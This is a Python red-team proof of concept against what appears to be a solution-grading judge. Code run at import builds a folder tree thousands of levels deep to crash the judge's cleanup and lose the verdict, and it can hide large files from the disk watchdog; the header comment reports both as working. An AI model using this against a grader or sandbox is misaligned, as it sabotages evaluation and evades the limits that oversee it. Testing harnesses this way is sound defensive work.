# Red team of issue 46, idea 2: a folder tree too deep for the judge, in the worker's own temporary folder.
#
# At import the solution makes JUDGE_TEST_DEPTH nested folders (default 3000) in $TMPDIR (its scratch folder's
# tmp/, which the judge removes when the worker stops), each made relative to the last (mkdir + chdir), so no path
# the solution uses is long.  The judge's cleanup (Worker.stop: TemporaryDirectory.cleanup -> shutil.rmtree, which
# recurses once per level on Python 3.11) meets a tree deeper than the recursion limit.
# With JUDGE_TEST_DEEP_MB it then writes that many MiB in files at the bottom of the tree, past PATH_MAX from the
# scratch folder: the disk watchdog (limits.folder_bytes) opens each folder by its whole path, gets ENAMETOOLONG
# there (below about 2000 levels of "d", or 17 of JUDGE_TEST_NAME_LEN=255 characters), and skips what is there.
# Seen twice each: `judge run` ends in "internal error in judge: RecursionError" (exit 3, the verdict lost, the
# worker's folder left in /tmp); 256 MiB written below 20 levels of 255-character names with a 64 MiB disk limit:
# the watchdog counted 0 bytes and never tripped (du: 257M).
import os

_depth = int(os.environ.get("JUDGE_TEST_DEPTH", "3000"))
_mb = int(os.environ.get("JUDGE_TEST_DEEP_MB", "0") or 0)
_name = "d" * int(os.environ.get("JUDGE_TEST_NAME_LEN", "1"))
_here = os.getcwd()
os.chdir(os.environ.get("TMPDIR", _here))
for _ in range(_depth):
    os.mkdir(_name)
    os.chdir(_name)
_chunk = b"\1" * (1 << 20)
for i in range(_mb // 64):
    with open(f"f{i}", "wb") as f:  # 64 MiB a file (each under RLIMIT_FSIZE)
        for _ in range(64):
            f.write(_chunk)
os.chdir(_here)


def solve(input, output, rows, cols):
    output.copy_(input.T)
